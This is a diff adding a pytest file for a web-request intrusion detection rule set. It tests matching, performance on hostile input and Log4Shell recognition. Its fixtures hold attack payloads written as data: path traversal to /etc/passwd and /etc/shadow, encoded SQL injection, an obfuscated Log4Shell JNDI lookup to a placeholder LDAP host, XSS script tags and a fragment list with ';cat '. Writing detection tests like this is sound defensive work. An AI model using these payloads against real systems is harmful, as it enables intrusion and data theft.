@@ -1,0 +1,120 @@
+"""Matching of requests, alone and by the table."""
+
+import json
+import time
+
+import polars as pl
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from vedette.detect.rules.matching import RuleSet
+from vedette.detect.rules.request import request_of
+from vedette.model.connection import SCHEMA, conform
+
+REQUESTS = [
+    {"method": "GET", "path": "/", "user_agent": "Mozilla/5.0 (X11; Linux x86_64)"},
+    {"method": "GET", "path": "/static/../../../etc/passwd"},
+    {"method": "GET", "path": "/?q=%2527%2520or%25201%253D1--", "referer": "https://example.org/"},
+    {"method": None, "path": None, "headers": "Authorization: ${${lower:j}ndi:ldap://h.example/a}"},
+    {"method": "PUT", "path": "/x.jsp/"},
+    {"method": "POST", "path": "/", "body": "a=%3Cscript%3Ealert(1)%3C/script%3E"},
+    {"method": "GET", "path": "/search?q=fish+and+chips"},
+    {"method": None, "path": None},
+]
+
+
+def frame_of(requests: list[dict[str, str | None]]) -> pl.DataFrame:
+    return conform(
+        pl.DataFrame(
+            requests,
+            schema=dict.fromkeys(("method", "path", "user_agent", "referer", "headers", "body"), pl.String),
+        )
+    )
+
+
+def ids(rules: RuleSet, request: dict[str, str | None]) -> list[str]:
+    return [match.rule.id for match in rules.match_request(request)]
+
+
+def test_a_table_is_answered_row_by_row(rules: RuleSet):
+    found = rules.match(frame_of(REQUESTS))
+    assert found.dtype == pl.List(pl.String)
+    assert found.to_list() == [ids(rules, request) for request in REQUESTS]
+    assert [bool(names) for names in found.to_list()] == [False, True, True, True, True, True, False, False]
+
+
+@given(st.lists(st.sampled_from(range(len(REQUESTS))), max_size=12))
+@settings(max_examples=30, deadline=None)
+def test_a_request_matches_the_same_alone_and_within_a_table(rules, order):
+    chosen = [REQUESTS[number] for number in order]
+    assert rules.match(frame_of(chosen)).to_list() == [ids(rules, request) for request in chosen]
+
+
+@pytest.mark.parametrize("frame", [pl.DataFrame(schema=SCHEMA), pl.DataFrame({"x": [1]})])
+def test_a_table_without_requests_is_answered_with_nothing(rules, frame):
+    found = rules.match(frame)
+    assert found.dtype == pl.List(pl.String)
+    assert found.to_list() == [[]] * frame.height
+
+
+def test_a_match_names_what_was_asked_for(rules: RuleSet):
+    match = next(
+        m
+        for m in rules.match_request({"path": "/static/%2e%2e/%2e%2e/etc/shadow", "method": "GET"})
+        if m.rule.id == "cve-2024-23334"
+    )
+    assert (match.field, match.target) == ("path", "/etc/shadow")
+    assert match.text.startswith("/static/")
+
+
+def test_an_attack_behind_much_padding_is_found(rules: RuleSet):
+    padding = "a" * 200_000
+    assert "xss-tag" in ids(
+        rules, {"path": None, "method": "POST", "body": f"x={padding}<script>alert(1)</script>{padding}"}
+    )
+
+
+def test_text_that_is_no_unicode_is_matched_all_the_same(rules: RuleSet):
+    assert ids(rules, {"path": "/\udcff?x=../../etc/passwd", "method": "GET"})
+
+
+MEGABYTE = 1_000_000
+HOSTILE = [
+    "%41",
+    "${",
+    "../",
+    "%27%27a",
+    "${jndi:",
+    "<a onx=",
+    "' or 1=1 union select ",
+    "base64,AAAA",
+    ";cat ",
+    "&#x41;",
+    "/*",
+    "a",
+]
+
+
+@pytest.mark.parametrize("piece", HOSTILE)
+def test_a_hostile_megabyte_costs_less_than_fifty_milliseconds(rules: RuleSet, piece):
+    request = {"path": piece * (MEGABYTE // len(piece)), "method": "GET"}
+    rules.match_request(request)  # automata are built once
+
+    def cost() -> float:
+        start = time.process_time()
+        rules.match_request(request)
+        return time.process_time() - start
+
+    assert min(cost() for _ in range(3)) < 0.05
+
+
+@pytest.mark.conformance
+def test_every_log4shell_string_is_recognised(rules: RuleSet, shared_data):
+    lines = (shared_data / "labelled/log4shell_strings/log4shell_strings.jsonl").read_text().splitlines()
+    texts = [
+        row["text"] for row in map(json.loads, lines) if row["label"] == "attack" and "${" in row["text"]
+    ]
+    assert texts
+    for text in texts:
+        assert "cve-2021-44228" in ids(rules, request_of("GET", "/", {"User-Agent": text}, "")), text
